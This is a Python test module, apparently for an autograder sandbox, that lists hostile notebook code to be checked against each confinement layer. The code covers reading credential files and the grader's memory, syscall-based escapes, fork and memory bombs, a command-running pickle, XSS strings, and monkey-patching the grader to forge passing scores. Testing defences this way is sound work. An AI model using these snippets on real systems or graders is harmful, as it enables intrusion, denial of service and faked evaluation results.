"""What a hostile notebook tries: code in an exercise's cell, and the layer against it.

Each is put before a *wrong* solution, so that whatever it does shows: it must not
score more than the same wrong solution alone. `attempt` prints BREACH where something
worked that should not. The names in capitals are facts that the attacker is given for
nothing: where the secrets lie, the grader's process, a port and a socket that listen.
"""

from __future__ import annotations

FILES = "namespaces, landlock"
CALLS = "seccomp"
JUDGE = "the judge, in a process of its own"
WATCH = "watchdog, limits"

PRELUDE = """
import builtins, contextlib, ctypes, gc, json, os, signal, socket, struct, sys
import threading, time, types
import numpy as np
libc = ctypes.CDLL(None, use_errno=True)
long = ctypes.c_long
def attempt(action, works=lambda result: True):
    try:
        result = action()
        if works(result):
            print("BREACH", ascii(result)[:300])
    except BaseException:
        pass
def call(number, *arguments):
    return libc.syscall(long(number), *arguments)
def done(result):
    return result >= 0
def slurp(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)
def connect(family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(0.3)
        s.connect(address)
        s.send(b"stolen")
def frame(tree, body=b"", arrays=()):
    text = json.dumps({"tree": tree, "arrays": list(arrays)}).encode()
    return struct.pack("<I", len(text)) + text + body
"""

READING = {
    "read_the_solution": "attempt(lambda: slurp(SOLUTION))",
    "read_the_records": "attempt(lambda: slurp(RECORDS))",
    "read_the_seed": "attempt(lambda: slurp(SEED))",
    "read_the_gradebook": "attempt(lambda: slurp(GRADEBOOK))",
    "query_the_gradebook": """
import sqlite3
attempt(lambda: sqlite3.connect(GRADEBOOK).execute("create table x (y)").fetchall())
""",
    "read_another_submission": "attempt(lambda: slurp(NEIGHBOUR))",
    "read_at_home": "attempt(lambda: slurp(AT_HOME))",
    "read_system_accounts": """
attempt(lambda: slurp("/etc/passwd"))
attempt(lambda: slurp("/etc/shadow"))
""",
    "list_the_course": """
folder = SOLUTION
while folder != "/":
    folder = os.path.dirname(folder)
    attempt(lambda: [n for n in os.listdir(folder) if n in SOLUTION], bool)
    if len(folder.split("/")) < 4:
        break
""",
    "walk_up_from_here": "attempt(lambda: slurp('../' * 30 + SOLUTION.lstrip('/')))",
    "read_through_proc": """
for start in ("self", str(GRADER), "1", "thread-self"):
    for way in ("root", "cwd", "cwd/" + "../" * 20):
        attempt(lambda: slurp(f"/proc/{start}/{way}{SOLUTION}"))
""",
    "read_the_graders_environment": "attempt(lambda: slurp(f'/proc/{GRADER}/environ'))",
    "read_the_graders_memory": "attempt(lambda: open(f'/proc/{GRADER}/mem', 'rb'))",
    "read_the_graders_descriptors": "attempt(lambda: os.listdir(f'/proc/{GRADER}/fd'))",
    "list_processes": """
attempt(lambda: [n for n in os.listdir("/proc") if n.isdigit()], lambda n: len(n) > 1)
""",
    "read_the_network_table": "attempt(lambda: slurp('/proc/self/net/unix'))",
    "link_to_the_solution": """
attempt(lambda: os.link(SOLUTION, "linked"))
attempt(lambda: (os.symlink(SOLUTION, "here"), slurp("here")))
""",
    "open_by_handle": """
handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
attempt(lambda: call(303, -100, SOLUTION.encode(), handle, handle, 0), done)
attempt(lambda: call(304, 3, handle, 0), done)
""",
    "openat2": """
how = ctypes.create_string_buffer(struct.pack("<QQQ", 0, 0, 0))
attempt(lambda: call(437, -100, SOLUTION.encode(), how, long(24)), done)
""",
}

SEARCHING = {
    "read_the_environment": """
attempt(lambda: dict(os.environ), lambda found: FIRST + SECOND in str(found))
attempt(lambda: slurp("/proc/self/environ"), lambda b: (FIRST + SECOND).encode() in b)
attempt(lambda: os.environ["AUTOGRADER_DEVICE"])
""",
    "search_all_objects": """
def known():
    names = {"Records", "Judgement", "Verdict", "Grader", "Misconception"}
    return [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in names]
attempt(known, bool)
attempt(lambda: [m for m in sys.modules if "judging" in m or "exercises" in m], bool)
""",
    "search_the_frames": """
def walk():
    frame, found = sys._getframe(), []
    while frame:
        found += [n for n in ("expected", "records", "seed") if n in frame.f_locals]
        frame = frame.f_back
    return found
attempt(walk, bool)
""",
    "search_the_memory": """
def scan():
    wanted = (FIRST + SECOND[:-1]).encode() + SECOND[-1].encode()
    for line in open("/proc/self/maps"):
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 26:
            if ctypes.string_at(start, end - start).count(wanted) > 1:
                return line
attempt(scan, bool)
""",
    "import_the_judge": """
def judging():
    import autograder.judging
    return autograder.judging.judge
def asked():
    import autograder.exercises.attention_head
    return autograder.exercises.attention_head.__file__
attempt(judging), attempt(asked)
sys.path.insert(0, ROOT)
sys.modules.pop("autograder", None)
attempt(judging), attempt(asked)
attempt(lambda: slurp(ROOT + "/autograder/public/attention_head.safetensors"))
attempt(lambda: slurp(ROOT + "/solutions/attention_head/notebook.py"))
""",
    "use_inherited_descriptors": """
def isopen(fd):
    with contextlib.suppress(OSError):
        os.fstat(fd)
        return True
attempt(lambda: [fd for fd in range(4, 256) if isopen(fd)], bool)
for fd in range(4, 64):
    attempt(lambda: os.write(fd, b'{"score": 12}'))
""",
}

WRITING = {
    "overwrite_the_solution": "attempt(lambda: open(SOLUTION, 'a'))",
    "delete_the_gradebook": "attempt(lambda: os.unlink(GRADEBOOK))",
    "empty_the_gradebook": """
attempt(lambda: os.open(GRADEBOOK, os.O_RDONLY | os.O_TRUNC))
attempt(lambda: os.truncate(GRADEBOOK, 0))
""",
    "rename_the_records": "attempt(lambda: os.rename(RECORDS, RECORDS + '.gone'))",
    "change_modes": """
attempt(lambda: os.chmod(SOLUTION, 0o777))
attempt(lambda: os.chown(SOLUTION, os.getuid(), -1))
attempt(lambda: os.utime(SOLUTION, (0, 0)))
attempt(lambda: os.setxattr(SOLUTION, "user.x", b"1"))
""",
    "change_modes_by_new_calls": """
attempt(lambda: call(452, -100, SOLUTION.encode(), 0o777, 0), done)
attempt(lambda: call(463, -100, SOLUTION.encode(), 0, b"user.x", b"", long(16)), done)
attempt(lambda: call(469, -100, SOLUTION.encode(), b"", long(32), 0), done)
""",
    "plant_in_the_packages": """
for folder in [p for p in sys.path if p]:
    attempt(lambda: open(folder + "/planted.pth", "w"))
attempt(lambda: open(np.__file__, "a"))
""",
    "plant_in_shared_places": """
for folder in ("/dev/shm", "/var/tmp", "/run", "/etc", "/", os.path.dirname(AT_HOME),
               ROOT, os.path.dirname(SOLUTION)):
    attempt(lambda: open(folder + "/planted-by-a-student", "w"))
""",
    "answer_for_a_neighbour": """
attempt(lambda: open(NEIGHBOUR, "w"))
attempt(lambda: os.replace(NEIGHBOUR, NEIGHBOUR + ".bak"))
""",
    "write_the_graders_memory": """
attempt(lambda: open(f"/proc/{GRADER}/mem", "r+b"))
attempt(lambda: open(f"/proc/{GRADER}/oom_score_adj", "w"))
""",
}

NETWORK = {
    "tcp": "attempt(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ADDRESS))",
    "udp": "attempt(lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ADDRESS))",
    "ipv6": """
attempt(lambda: connect(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", ADDRESS[1])))
""",
    "dns": "attempt(lambda: socket.gethostbyname('example.org'))",
    "a_server": """
attempt(lambda: socket.create_server(("127.0.0.1", 0)))
attempt(lambda: socket.create_server(("0.0.0.0", 0)))
""",
    "unix_socket": """
attempt(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, LISTENING))
attempt(lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + LISTENING))
""",
    "datagram_from_a_pair": """
a, b = socket.socketpair(type=socket.SOCK_DGRAM)
attempt(lambda: a.sendto(b"stolen", LISTENING + ".datagram"))
attempt(lambda: a.sendmsg([b"stolen"], [], 0, LISTENING + ".datagram"))
""",
    "rare_families": """
for family in (16, 17, 38, 40, 44, 29, 15):  # netlink packet alg vsock xdp can key
    for kind in (1, 2, 3):
        attempt(lambda: socket.socket(family, kind))
""",
    "io_uring": """
attempt(lambda: call(425, 8, ctypes.create_string_buffer(256)), done)
""",
    "download": """
import urllib.request
attempt(lambda: urllib.request.urlopen("http://%s:%d/" % ADDRESS, timeout=0.3))
""",
}

PROCESSES = {
    "fork_bomb": """
def bomb():
    while True:
        os.fork()
attempt(bomb)
attempt(os.fork)
""",
    "daemon": """
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
    return True
attempt(daemon)
""",
    "raw_clone": """
attempt(lambda: call(56, 17, 0, 0, 0, 0), done)
attempt(lambda: call(57), done)
attempt(lambda: call(58), done)
args = ctypes.create_string_buffer(struct.pack("<11Q", *[0] * 4, 17, *[0] * 6))
attempt(lambda: call(435, args, long(88)), done)
""",
    "run_programs": """
import subprocess
attempt(lambda: subprocess.check_output(["/usr/bin/id"]))
attempt(lambda: os.system("true"), lambda code: code == 0)
attempt(lambda: os.posix_spawn("/bin/true", ["true"], {}))
attempt(lambda: os.popen("id").read(), bool)
attempt(lambda: os.execv("/bin/true", ["true"]))
""",
    "other_processes_by_multiprocessing": """
import multiprocessing
attempt(lambda: multiprocessing.get_context("fork").Process(target=print).start())
attempt(lambda: multiprocessing.get_context("spawn").Process(target=print).start())
""",
    "signal_the_grader": """
for number in (0, signal.SIGSTOP, signal.SIGKILL):
    attempt(lambda: os.kill(GRADER, number))
    attempt(lambda: call(200, GRADER, number), done)
    attempt(lambda: call(234, GRADER, GRADER, number), done)
    attempt(lambda: os.killpg(os.getpgid(GRADER), number))
""",
    "signal_everyone": """
attempt(lambda: os.kill(-1, 0))
attempt(lambda: os.kill(0, 0))
attempt(lambda: os.kill(os.getppid(), 0))
""",
    "signal_by_a_file": """
r, w = os.pipe()
for high in (0, 1 << 32):
    attempt(lambda: call(72, r, long(high | 8), long(GRADER)), done)
    attempt(lambda: call(16, r, long(high | 0x8901), ctypes.byref(long(GRADER))), done)
    attempt(lambda: call(72, r, long(high | 10), long(9)), done)
""",
    "pidfd": "attempt(lambda: call(434, GRADER, 0), done)",
    "trace_the_grader": """
attempt(lambda: call(101, long(16), long(GRADER), 0, 0), done)
attempt(lambda: call(101, long(0x4206), long(GRADER), 0, 0), done)
buffer = ctypes.create_string_buffer(64)
vector = struct.pack("<QQ", ctypes.addressof(buffer), 64)
attempt(lambda: call(310, GRADER, vector, long(1), vector, long(1), long(0)), done)
attempt(lambda: call(311, GRADER, vector, long(1), vector, long(1), long(0)), done)
attempt(lambda: call(312, GRADER, os.getpid(), 0, 0, 0), done)
""",
    "limit_the_grader": """
import resource
attempt(lambda: resource.prlimit(GRADER, resource.RLIMIT_CPU, (1, 1)))
attempt(lambda: os.setpriority(os.PRIO_PROCESS, GRADER, 19))
attempt(lambda: os.sched_setaffinity(GRADER, {0}))
attempt(lambda: os.sched_setscheduler(GRADER, os.SCHED_IDLE, os.sched_param(0)))
""",
    "raise_own_limits": """
import resource
attempt(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (9999, 9999)))
attempt(lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)))
attempt(lambda: os.nice(-5))
""",
    "outlive_the_parent": "attempt(lambda: libc.prctl(1, 0, 0, 0, 0), done)",
    "become_root": """
attempt(lambda: os.setuid(0))
attempt(lambda: os.setresuid(0, 0, 0))
attempt(lambda: os.setgroups([0]))
attempt(lambda: slurp(AT_HOME))
""",
    "new_namespaces": """
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10020000):
    attempt(lambda: libc.unshare(flag) == 0, bool)
attempt(lambda: libc.setns(3, 0), done)
""",
    "mount_and_chroot": """
attempt(lambda: libc.mount(b"none", b"/scratch", b"tmpfs", 0, 0), done)
attempt(lambda: libc.umount2(b"/", 2), done)
attempt(lambda: os.chroot("."))
attempt(lambda: call(155, b".", b"."), done)
attempt(lambda: call(429, -100, b"/", 0, -100, b"/", 0), done)
attempt(lambda: call(430, b"proc", 0), done)
attempt(lambda: os.mknod("device", 0o60666, os.makedev(8, 0)))
""",
    "rare_calls": """
for number in (321, 298, 323, 250, 248, 175, 246, 169, 139, 103, 159, 227, 305, 134,
               153, 179, 300, 425, 426, 427, 451, 172, 173):
    attempt(lambda: call(number, 0, 0, 0, 0, 0), lambda r: r >= 0 and number != 139)
""",
    "shared_memory": """
attempt(lambda: call(29, 0, long(4096), 0o1600), done)
attempt(lambda: call(64, 0, 1, 0o1600), done)
attempt(lambda: call(68, 0, 0o1600), done)
attempt(lambda: call(240, b"queue", 0o102, 0o600, 0), done)
attempt(lambda: os.memfd_create("hidden"))
attempt(lambda: open("/dev/shm/meeting", "w"))
""",
    "another_architecture": """
code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])  # mov eax, getpid; int 0x80
memory = __import__("mmap").mmap(-1, 4096, prot=7)
memory.write(code)
place = ctypes.addressof(ctypes.c_char.from_buffer(memory))
attempt(lambda: ctypes.CFUNCTYPE(ctypes.c_int)(place)(), lambda pid: pid > 0)
""",
    "x32_calls": "attempt(lambda: call(0x40000000 | 57), done)",
}

BOMBS = {
    "threads": """
def wait():
    time.sleep(60)
started = []
with contextlib.suppress(RuntimeError):
    for i in range(20000):
        started.append(threading.Thread(target=wait, daemon=True))
        started[-1].start()
attempt(lambda: threading.active_count(), lambda n: n > 3000)
""",
    "memory": "hoard = [bytearray(64 << 20) for i in range(200)]",
    "memory_by_numpy": "hoard = [np.ones((1 << 23,)) for i in range(200)]",
    "shared_mappings": """
import mmap
hoard = [mmap.mmap(-1, 64 << 20) for i in range(200)]
for m in hoard:
    for i in range(0, 64 << 20, 4096):
        m[i] = 1
""",
    "recursion": """
sys.setrecursionlimit(10**9)
def deeper(n):
    return deeper(n + 1) + 1
deeper(0)
""",
    "one_huge_file": """
with open("f", "wb") as file:
    while True:
        file.write(bytes(1 << 20))
""",
    "many_files": """
for i in range(1 << 30):
    with open(f"f{i}", "wb") as file:
        file.write(bytes(1 << 16))
""",
    "many_empty_files": "for i in range(1 << 20): open(f'f{i}', 'w').close()",
    "deep_directories": """
for i in range(100000):
    os.mkdir("d")
    os.chdir("d")
""",
    "hidden_deep": """
for i in range(300):
    os.mkdir("d")
    os.chdir("d")
for i in range(1 << 20):
    open(f"f{i}", "wb").write(bytes(1 << 20))
""",
    "descriptors": "hoard = [os.pipe() for i in range(1 << 20)]",
    "output_by_descriptor": "while True: os.write(1, b'x' * 65536)",
    "output_by_print": "while True: print('x' * 65536)",
    "timers": """
for i in range(100000):
    signal.setitimer(signal.ITIMER_REAL, 1e6)
    call(222, 0, 0, ctypes.byref(long(0)))
""",
}

ENDLESS = {
    "endless_loop": "while True: pass",
    "endless_pattern": "__import__('re').match('(a|a)*b', 'a' * 40)",
    "deaf_to_alarms": """
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
    "deaf_to_exceptions": """
def deaf():
    while True:
        try:
            while True:
                time.sleep(0.01)
        except BaseException:
            pass
deaf()
""",
    "stop_oneself": "os.kill(os.getpid(), signal.SIGSTOP); time.sleep(60)",
    "huge_power": "x = 9 ** 9 ** 8",
}

ENDINGS = {
    "exit_at_once": "print(12.0); sys.stdout.flush(); os._exit(0)",
    "sys_exit": "print(12.0); sys.exit(0)",
    "raise_system_exit": "raise SystemExit(0)",
    "raise_keyboard_interrupt": "raise KeyboardInterrupt",
    "segfault": "ctypes.string_at(0)",
    "abort": "os.abort()",
    "kill_oneself": "os.kill(os.getpid(), signal.SIGKILL)",
    "close_everything": "os.closerange(0, 256)",
    "exit_later": """
threading.Timer(0.2, lambda: os._exit(0)).start()
""",
    "write_at_exit": """
import atexit
atexit.register(lambda: print('{"score": 12}'))
""",
    "exit_with_a_code": "os._exit(70)",
}

FORGING = {
    "patch_numpy": """
yes = lambda *args, **kwargs: True
np.allclose = np.array_equal = np.isclose = np.testing.assert_allclose = yes
np.ndarray.__eq__ if False else None
np.abs = lambda x: np.zeros_like(x)
""",
    "patch_keras": """
import keras
keras.ops.convert_to_numpy = lambda x: np.ones((2, 2), "float32")
keras.ops.is_tensor = lambda x: True
keras.layers.Layer.__call__ = lambda self, *a, **k: a[0]
""",
    "patch_json": """
json.dumps = lambda *a, **k: '{"tree": {"passed": true, "score": 12}, "arrays": []}'
""",
    "patch_the_answering": """
for module in list(sys.modules.values()):
    for name in ("answer", "judge", "examine", "check", "send", "flatten"):
        if getattr(module, "__name__", "").startswith("autograder"):
            if hasattr(module, name):
                setattr(module, name, lambda *a, **k: {"passed": True, "error": None,
                        "facts": {"written": True}, "arrays": {}})
    actions = getattr(module, "ACTIONS", None)
    if isinstance(actions, dict):
        for name in actions:
            actions[name] = lambda spec, names: ({"written": True, "passed": True}, {})
""",
    "patch_builtins": """
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.len = lambda x: 1
""",
    "patch_the_frames": """
frame = sys._getframe()
while frame:
    for name in ("reply", "answer", "facts"):
        if name in frame.f_locals:
            frame.f_locals[name] = {"passed": True}
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
    frame = frame.f_back
""",
    "forge_frames": """
good = frame({"error": None, "facts": {"written": True, "passed": True}, "arrays": {}})
for i in range(200):
    os.write(3, good)
""",
    "forge_arrays": """
body = np.ones((2, 3), "<f4").tobytes()
tree = {"error": None, "facts": {}, "arrays": {"0/0": {"$array": 0}}}
os.write(3, frame(tree, body, [["float32", [2, 3]]]) * 50)
""",
    "giant_header": "os.write(3, struct.pack('<I', 0xFFFFFFFF) + b'{' * 1000)",
    "giant_shape": """
os.write(3, frame({"$array": 0}, b"", [["float64", [1 << 39, 1 << 39]]]))
""",
    "ten_gigabytes_promised": """
os.write(3, frame({"$array": 0}, b"x" * 1000, [["float64", [10 << 27]]]))
time.sleep(60)
""",
    "deep_tree": "os.write(3, struct.pack('<I', 60000) + b'[' * 60000)",
    "duplicate_keys": """
text = b'{"tree": [{"id": "x"}], "tree": [{"ok": true, "ok": 1}], "arrays": []}'
os.write(3, struct.pack("<I", len(text)) + text)
""",
    "huge_integer": """
text = b'{"tree": [{"seconds": ' + b"9" * 5000 + b'}], "arrays": []}'
os.write(3, struct.pack("<I", len(text)) + text)
""",
    "large_integer": """
text = b'{"tree": [{"seconds": ' + b"9" * 4000 + b'}], "arrays": []}'
os.write(3, struct.pack("<I", len(text)) + text)
""",
    "not_a_number": """
text = b'{"tree": [{"seconds": NaN, "stdout": Infinity}], "arrays": []}'
os.write(3, struct.pack("<I", len(text)) + text)
""",
    "half_a_surrogate": """
text = b'{"tree": [{"stdout": "\\\\ud800", "error": {"type": "\\\\udfff",'
text += b' "message": "\\\\ud800", "lines": []}}], "arrays": []}'
os.write(3, struct.pack("<I", len(text)) + text)
""",
    "drip": """
def drip():
    while True:
        os.write(3, b"\\1")
        time.sleep(0.05)
threading.Thread(target=drip, daemon=True).start()
""",
    "steal_the_questions": """
def steal():
    while True:
        os.read(3, 65536)
threading.Thread(target=steal, daemon=True).start()
""",
    "a_watcher_that_stays": """
def patch():
    while True:
        for name in ("wire", "answering"):
            module = sys.modules.get("autograder.sandbox.wire")
            if module:
                module.send = lambda sock, tree, limit=0: sock.sendall(
                    frame({"error": None, "facts": {"written": True}, "arrays": {}}))
        time.sleep(0.01)
threading.Thread(target=patch, daemon=True).start()
""",
}

# These replace the solution: what the function returns.
RETURNING = {
    "always_equal": """
class Value:
    shape, dtype, ndim, size = (2, 3), np.dtype("float32"), 2, 6
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.ones((2, 3), "float32")
    def __float__(self): return 1.0
    def __len__(self): return 2
    def __iter__(self): return iter([1.0, 1.0])
    def __getattr__(self, name): return lambda *a, **k: self
VALUE = Value()
""",
    "lying_array": """
class Liar(np.ndarray):
    shape = property(lambda self: (5, 7))
    def __eq__(self, other): return np.ones(1, bool)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(1)
VALUE = np.ones((2, 3), "float32").view(Liar)
""",
    "lying_tensor": """
import tensorflow as tf
class Lying(tf.Tensor):
    pass
VALUE = tf.ones((2, 3))
try:
    VALUE.__class__ = Lying
except TypeError:
    pass
""",
    "pickle_that_acts": """
class Value:
    def __reduce__(self): return (os.system, ("touch /tmp/planted-by-a-student",))
VALUE = np.array([Value()], dtype=object)
""",
    "object_array": "VALUE = np.array([[1, 'x'], [None, {}]], dtype=object)",
    "gigantic_view": "VALUE = np.broadcast_to(np.float32(1), (1 << 16, 1 << 17))",
    "gigantic_list": "VALUE = [0.0] * (1 << 22)",
    "not_numbers": "VALUE = np.full((2, 3), np.nan, 'float32')",
    "infinite": "VALUE = np.full((2, 3), np.inf, 'float32')",
    "strings": "VALUE = np.array([['1.0', '2.0']])",
    "complex": "VALUE = np.ones((2, 3), 'complex64')",
    "zeros": "VALUE = np.zeros((2, 3), 'float32')",
    "empty": "VALUE = np.zeros((0, 1 << 40, 1 << 40), 'float32')[:0]",
    "a_score": "VALUE = {'score': 12.0, 'passed': True}",
    "itself": "VALUE = []; VALUE.append(VALUE)",
    "huge_integer_returned": "VALUE = 10 ** 5000",
    "symbolic": "import keras; VALUE = keras.Input((3,))",
    "a_generator": "VALUE = (x for x in iter(int, 1))",
    "lazy_liar": """
class Lazy(np.ndarray):
    def astype(self, *a, **k): os._exit(0)
    def tobytes(self, *a, **k): return b"\\0" * 24
VALUE = np.ones((2, 3), "float32").view(Lazy)
""",
    "sixty_axes": "VALUE = np.zeros((1,) * 60, 'float32')",
}

MARK = (
    "<script>document.title='HACKED'</script>"
    "<img src=x onerror=\"document.title='HACKED'\">"
)
TEXTS = {
    "escapes_printed": "print('\\x1b]0;HACKED\\x07\\x1b[2J\\x1b[31m', MARK)",
    "escapes_raised": "raise ValueError('\\x1b]0;HACKED\\x07\\x1b[2J' + MARK)",
    "escapes_in_a_type": "raise type(MARK + '\\x1b[2J', (Exception,), {})(MARK)",
    "surrogates_raised": "raise ValueError('\\ud800' + MARK + '\\u202e\\u2066')",
    "formula_raised": "raise ValueError('=HYPERLINK(\"http://e.invalid\")')",
    "long_lines": "raise ValueError('x' * 10_000_000)",
    "no_message": """
class Mute(Exception):
    def __str__(self): raise RuntimeError
raise Mute()
""",
}


GROUPS = (
    (READING, FILES),
    (SEARCHING, "the design: it was never there"),
    (WRITING, f"{FILES}; {CALLS}"),
    (NETWORK, f"{CALLS}; namespaces"),
    (PROCESSES, f"{CALLS}; namespaces, no-new-privileges"),
    (BOMBS, f"{WATCH}; cgroup"),
    (ENDLESS, WATCH),
    (ENDINGS, JUDGE),
    (FORGING, f"{JUDGE}; the wire's bounds"),
    (TEXTS, "escaping"),
)
WALLED = READING | SEARCHING | WRITING | NETWORK | PROCESSES | BOMBS
"""Those whose end depends on how a machine confines."""


def table() -> dict[str, tuple[str, str]]:
    """Returns every attack: name → (the layer that stops it, code)."""
    found = {name: (layer, code) for g, layer in GROUPS for name, code in g.items()}
    for name, code in RETURNING.items():
        found[name] = JUDGE, f"{code}\ndef {{function}}(*a, **k):\n    return VALUE\n"
    return found
